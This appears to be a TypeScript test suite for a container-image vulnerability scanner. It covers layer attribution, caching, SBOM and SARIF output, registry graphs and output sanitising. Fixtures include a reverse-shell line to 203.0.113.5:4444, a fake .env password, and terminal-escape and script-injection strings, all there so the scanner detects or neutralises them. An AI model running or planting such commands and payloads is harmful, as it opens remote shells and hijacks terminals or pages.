/** Images as a whole: where they may be, who brought what, formats, the cache. */
import assert from 'node:assert/strict';
import { existsSync, readFileSync, readdirSync, rmSync, statSync } from 'node:fs';
import { createRequire } from 'node:module';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { Ajv } from 'ajv';
import { tarOf } from '../images/layer-testing.ts';
import type { TestEntry } from '../images/layer-testing.ts';
import { writeLayout } from '../images/fixtures.ts';
import type { Compressor } from '../images/fixtures.ts';
import { Scratch } from '../registry/servers.ts';
import { addFormats, cycloneDxValidator } from './schemas.ts';
import { packageLines, scanPlace } from './testing.ts';
import type { ScanOutput } from './testing.ts';

const { scratch, write, json, run, mustRun } = scanPlace();

const status = (...packages: readonly string[]): TestEntry => ({ path: 'var/lib/dpkg/status', text: packages.map((one) => `Package: ${one.split(' ')[0] ?? ''}\nStatus: install ok installed\nArchitecture: amd64\nVersion: ${one.split(' ')[1] ?? ''}\n`).join('\n') });
const npm = (path: string, version: string): TestEntry => ({ path: `${path}/package.json`, text: JSON.stringify({ name: path.replace(/^.*node_modules\//, ''), version }) });
const OS: TestEntry = { path: 'etc/os-release', text: 'ID=debian\nVERSION_ID="12"\nPRETTY_NAME="Debian 12"\n' };

/** Three generations: each is the one before with layers on top. */
const BASE: readonly TestEntry[][] = [[OS, status('libc6 2.36', 'openssl 3.0')]];
const MIDDLE: readonly TestEntry[][] = [...BASE, [status('libc6 2.36', 'openssl 3.1', 'curl 7.0'), npm('srv/node_modules/old', '1.0.0'), npm('srv/node_modules/kept', '1.0.0'), npm('opt/node_modules/opaque', '1.0.0')]];
const TOP: readonly TestEntry[][] = [
  ...MIDDLE, [{ path: 'srv/node_modules/.wh.old', text: '' }, { path: 'opt/', type: 'directory' }, { path: 'opt/.wh..wh..opq', text: '' }, npm('app/node_modules/own', '2.0.0'), status('libc6 2.36', 'openssl 3.1', 'curl 7.0', 'git 2.39')],
  [npm('srv/node_modules/kept', '1.1.0')],
];
const COMPRESSORS: readonly Compressor[] = ['gzip', 'zstd', 'none', 'gzip'];

async function load(name: string, layers: readonly TestEntry[][], labels: Readonly<Record<string, string>> = {}): Promise<string> {
  const directory = join(scratch, name.replace(':', '-'));
  writeLayout(directory, layers.map((entries, index) => ({ tar: tarOf(entries), compressor: COMPRESSORS[index % 4] ?? 'none' })), { Cmd: ['sh'], User: 'app', Labels: labels }, name);
  await mustRun(['load', '-i', directory, '-t', name]);
  return directory;
}

await load('base:1', BASE);
await load('middle:1', MIDDLE);
const layout = await load('top:1', TOP);
const origins = ({ packages, ...rest }: ScanOutput): readonly string[] => {
  const layers = (rest as unknown as { layers: { from: string; base?: string }[] }).layers;
  return packages.map(({ name, version, layer }) => `${name} ${version} ${layer} ${layers[layer]?.from ?? ''}${layers[layer]?.base === undefined ? '' : ` ${layers[layer].base}`}`).sort();
};
const WANTED = ['curl 7.0 1 base middle:1', 'git 2.39 2 own', 'kept 1.1.0 3 own', 'libc6 2.36 0 base middle:1', 'openssl 3.1 1 base middle:1', 'own 2.0.0 2 own'];

test('three generations: each package is given to its layer and image; what is deleted, hidden or replaced is not there', async () => {
  assert.deepEqual(origins(await json(['top:1'])), WANTED);
  assert.deepEqual(origins(await json(['middle:1'])), ['curl 7.0 1 own', 'kept 1.0.0 1 own', 'libc6 2.36 0 base base:1', 'old 1.0.0 1 own', 'opaque 1.0.0 1 own', 'openssl 3.1 1 own']);
  assert.match((await run(['scan', 'top:1'])).stdout, /^top:1 \(Debian 12\): 6 packages in 4 layers, built on middle:1\n/);
});

test('the same image from a directory, archives and a registry place', async () => {
  const lines = packageLines(await json(['top:1']));
  await mustRun(['save', '-o', join(scratch, 'top.tar'), 'top:1']);
  await mustRun(['copy', `oci:${layout}:top:1`, `dir:${join(scratch, 'skopeo')}`]);
  const places = [layout, `oci:${layout}:top:1`, join(scratch, 'top.tar'), `oci-archive:${join(scratch, 'top.tar')}`, join(scratch, 'skopeo')];
  const fresh = { XDG_CACHE_HOME: join(scratch, 'none'), CAISSON_HOME: join(scratch, 'empty') };
  for (const place of places) {
    const { stdout, stderr } = await run(['scan', '--packages', '--no-cache', '-f', 'json', place], { env: fresh });
    assert.deepEqual(packageLines(JSON.parse(stdout === '' ? stderr : stdout) as ScanOutput), lines, place);
  }
  assert.deepEqual(readdirSync(join(scratch, 'empty/layers')), []);
});

test('what is found in a layer is kept: a layer that is gone is not missed, and one that lies is not believed', async () => {
  const cache = join(scratch, 'kept');
  const env = { XDG_CACHE_HOME: cache };
  const fresh = (await run(['scan', '-f', 'json', '--packages', 'top:1'], { env })).stdout;
  assert.equal(readdirSync(join(cache, 'caisson/scan/layers')).filter((name) => name.includes('.packages-')).length, 4);
  const copy = join(scratch, 'copied');
  const alone = { ...env, CAISSON_HOME: join(scratch, 'another') };
  writeLayout(copy, TOP.map((entries) => ({ tar: tarOf(entries), compressor: 'none' })), { Cmd: ['sh'] }, 'top:1');
  for (const name of readdirSync(join(copy, 'blobs/sha256'))) if (statSync(join(copy, 'blobs/sha256', name)).size > 1500) rmSync(join(copy, 'blobs/sha256', name));
  assert.deepEqual(packageLines(JSON.parse((await run(['scan', '-f', 'json', '--packages', copy], { env: alone })).stdout) as ScanOutput), packageLines(JSON.parse(fresh) as ScanOutput));
  const gone = await run(['scan', '--no-cache', copy], { env: alone });
  assert.deepEqual([gone.status, /is not there/.test(gone.stderr)], [2, true], gone.stderr);
  const lying = join(scratch, 'lying');
  writeLayout(lying, [{ tar: tarOf([npm('a/node_modules/b', '1.0.0')]), compressor: 'none' }], {}, 'x');
  const blob = readdirSync(join(lying, 'blobs/sha256')).find((name) => readFileSync(join(lying, 'blobs/sha256', name)).includes('node_modules'))!;
  write(`lying/blobs/sha256/${blob}`, tarOf([npm('a/node_modules/b', '9.0.0')]));
  const answer = await run(['scan', lying], { env: alone });
  assert.equal(answer.status, 2, answer.stdout);
  assert.match(answer.stderr, /digest/);
});

test('bills of materials: CycloneDX validates against its schema, and both forms come back whole', async () => {
  const validate = cycloneDxValidator();
  await mustRun(['db', 'import', write('osv.json', JSON.stringify({ id: 'CVE-2024-1', modified: '2024-01-01T00:00:00Z', summary: 'bad', severity: [{ type: 'CVSS_V3', score: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N' }], affected: [{ package: { ecosystem: 'Debian:12', name: 'openssl' }, ranges: [{ type: 'ECOSYSTEM', events: [{ introduced: '0' }, { fixed: '3.2' }] }] }, { package: { ecosystem: 'npm', name: 'kept' }, versions: ['1.1.0'] }] }))]);
  const lines = packageLines(await json(['top:1']));
  for (const args of [[], ['--scanners', 'vuln']]) {
    const text = await mustRun(['scan', '-f', 'cyclonedx', ...args, 'top:1']);
    const document = JSON.parse(text) as { serialNumber: string; vulnerabilities?: { id: string; affects: object[] }[] };
    assert.ok(validate(document), JSON.stringify(validate.errors?.slice(0, 3)));
    assert.deepEqual(document.vulnerabilities?.map(({ id, affects }) => `${id} ${affects.length}`), args.length === 0 ? undefined : ['CVE-2024-1 2']);
    assert.deepEqual(packageLines(await json([write('top.cdx.json', text)])), lines);
    assert.equal((JSON.parse(await mustRun(['scan', '-f', 'cyclonedx', 'top:1'])) as { serialNumber: string }).serialNumber, document.serialNumber);
  }
  const spdx = await mustRun(['scan', '-f', 'spdx', 'top:1']);
  assert.deepEqual(packageLines(await json([write('top.spdx.json', spdx)])), lines);
});

test('formats: where a vulnerability is from, the page, SARIF, which validates against its schema, Markdown; statuses', async () => {
  const found = (await json(['top:1'])).findings.map(({ rule, subject, origin }) => `${rule} ${subject} ${origin?.layer ?? ''} ${origin?.from ?? ''}`).sort();
  assert.deepEqual(found, ['CVE-2024-1 kept@1.1.0 3 own', 'CVE-2024-1 openssl@3.1 1 base']);
  const table = await run(['scan', 'top:1']);
  assert.equal(table.status, 1);
  assert.match(table.stdout, /^openssl +CVE-2024-1 +high +fixed +3\.1 +3\.2 +layer 2 \(base middle:1\) +bad$/m);
  assert.equal((await run(['scan', '--fail-on', 'critical', 'top:1'])).status, 0);
  const page = join(scratch, 'page.html');
  const sarif = JSON.parse((await run(['scan', '-f', 'sarif', '--report', page, 'top:1'])).stdout) as { runs: { results: { ruleId: string }[] }[] };
  assert.deepEqual(sarif.runs[0]?.results.map(({ ruleId }) => ruleId), ['CVE-2024-1', 'CVE-2024-1']);
  // It is of draft 04, but uses nothing that later drafts mean otherwise; one of its patterns is none for expressions with the flag u.
  const { $schema: _draft, id: _id, ...schema } = JSON.parse(readFileSync(createRequire(import.meta.url).resolve('@microsoft/jest-sarif/lib/schemas/sarif-2.1.0-rtm.5.json'), 'utf8')) as Record<string, unknown>;
  const validate = addFormats(new Ajv({ strict: false, unicodeRegExp: false })).compile(schema);
  write('odd/app/a b%é.sh', 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n');
  write('odd/root/.env', 'DB_PASSWORD=\'Xk29dkQw8z\'\n');
  for (const document of [sarif, JSON.parse((await run(['scan', '-f', 'sarif', join(scratch, 'odd')])).stdout) as { runs: { results: object[] }[] }]) {
    assert.ok(validate(document), JSON.stringify(validate.errors?.slice(0, 3)));
    assert.ok((document.runs[0]?.results.length ?? 0) > 0);
  }
  assert.match(readFileSync(page, 'utf8'), /<h2>Layers<\/h2>[\s\S]*base/);
  assert.doesNotMatch(readFileSync(page, 'utf8'), /<script/i);
  assert.match((await run(['scan', '-f', 'markdown', 'top:1'])).stdout, /^\| high \| CVE-2024-1 \|/m);
  const out = join(scratch, 'out.html');
  assert.deepEqual([(await run(['scan', '-f', 'html', '-o', out, 'top:1'])).stdout, readFileSync(out, 'utf8').startsWith('<!')], ['', true]);
});

test('a base that was made anew: what a rebuild mends; the picture of the family', async () => {
  await load('base:2', [[OS, status('libc6 2.36', 'openssl 3.2', 'new 1')]]);
  await load('child:1', [...BASE, [npm('app/node_modules/kept', '1.1.0')]], { 'org.opencontainers.image.base.name': 'base:2' });
  const { rebuild, notes = [] } = await json(['child:1']);
  assert.deepEqual(rebuild, { base: 'base:2', mends: 1, remains: 0, adds: 0 });
  assert.ok(notes.includes('built again on base:2 as it is now: 1 vulnerabilities of the base are gone, 0 remain, 0 come'), notes.join());
  const dot = await mustRun(['scan', '--graph', '-', 'top:1']);
  const number = (name: string): string => new RegExp(`^ {2}(n\\d+) \\[label="${name}\\\\n`, 'm').exec(dot)?.[1] ?? name;
  for (const [from, to] of [['base:1', 'middle:1'], ['middle:1', 'top:1']] as const) assert.ok(dot.includes(`${number(from)} -> ${number(to)};`), dot);
  assert.match(dot, /top:1\\n6 packages \(\+3 −3\)\\n1 inherited, 1 added, 0 mended/);
  assert.doesNotMatch(dot, /child:1|base:2/);
  const file = join(scratch, 'family.svg');
  await mustRun(['scan', '--graph', file]);
  assert.ok(existsSync(file) && readFileSync(file, 'utf8').includes('child:1'));
});

test('the picture of a registry, of a repository, and of one image there; what is no image is left out', async () => {
  const registries = new Scratch('scan-graph');
  after(() => registries.clean());
  const { host } = await registries.serve();
  for (const [image, name] of [['base:1', 'team/app:base'], ['middle:1', 'team/app:middle'], ['top:1', 'team/app:top'], ['base:2', 'other:2']] as const) {
    await mustRun(['tag', image, `${host}/${name}`]);
    await mustRun(['push', '-q', `${host}/${name}`]);
  }
  await mustRun(['db', 'push', `${host}/team/app:advisories`]);
  const env = { CAISSON_HOME: join(scratch, 'elsewhere'), XDG_CACHE_HOME: join(scratch, 'cache-elsewhere') };
  await mustRun(['db', 'update', `docker://${host}/team/app:advisories`], { env });
  const names = (dot: string): readonly string[] => [...dot.matchAll(/^ {2}n\d+ \[label="([^\\"]+)/gm)].map(([, name = '']) => name.slice(host.length + 1)).sort();
  const whole = await run(['scan', '--graph', '-', `docker://${host}`], { env });
  assert.deepEqual(names(whole.stdout), ['other:2', 'team/app:base', 'team/app:middle', 'team/app:top'], whole.stderr);
  assert.match(whole.stderr, /^caisson: \S+\/team\/app:advisories is left out: /m);
  assert.match(whole.stdout, /team\/app:top\\n6 packages \(\+3 −3\)\\n1 inherited, 1 added, 0 mended/);
  assert.deepEqual(names(await mustRun(['scan', '--graph', '-', `docker://${host}/other`], { env })), ['other:2']);
  assert.deepEqual(names(await mustRun(['scan', '--graph', '-', `docker://${host}/team/app:middle`], { env })), ['team/app:base', 'team/app:middle', 'team/app:top']);
  for (const [word, message] of [['team/app:none', /there is no such tag/], ['missing', /is not in/], [`team/app@sha256:${'a'.repeat(64)}`, /has no family/]] as const) {
    const { status: code, stderr } = await run(['scan', '--graph', '-', `docker://${host}/${word}`], { env });
    assert.deepEqual([code, message.test(stderr)], [2, true], stderr);
  }
});

test('names in an image reach no terminal and no page as they are', async () => {
  const evil = '\x1b[31m\x9b31m\u202e<script>alert(1)</script>';
  await load('evil:1', [[{ path: 'a/node_modules/x/package.json', text: JSON.stringify({ name: evil, version: '1\x1b]0;t\x07' }) }, { path: 'srv/package-lock.json', text: '{' }, { path: 'etc/os-release', text: `ID=debian\nPRETTY_NAME="${evil}"\n` }]]);
  const page = join(scratch, 'evil.html');
  const all = [await run(['scan', '--report', page, 'evil:1']), await run(['scan', '--packages', 'evil:1']), await run(['scan', '-f', 'json', '--packages', 'evil:1']), await run(['scan', '-f', 'cyclonedx', 'evil:1']), await run(['scan', '-f', 'spdx', 'evil:1'])];
  for (const { stdout, stderr } of all) assert.doesNotMatch(stdout + stderr, /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]/);
  assert.doesNotMatch(readFileSync(page, 'utf8'), /<script/i);
});
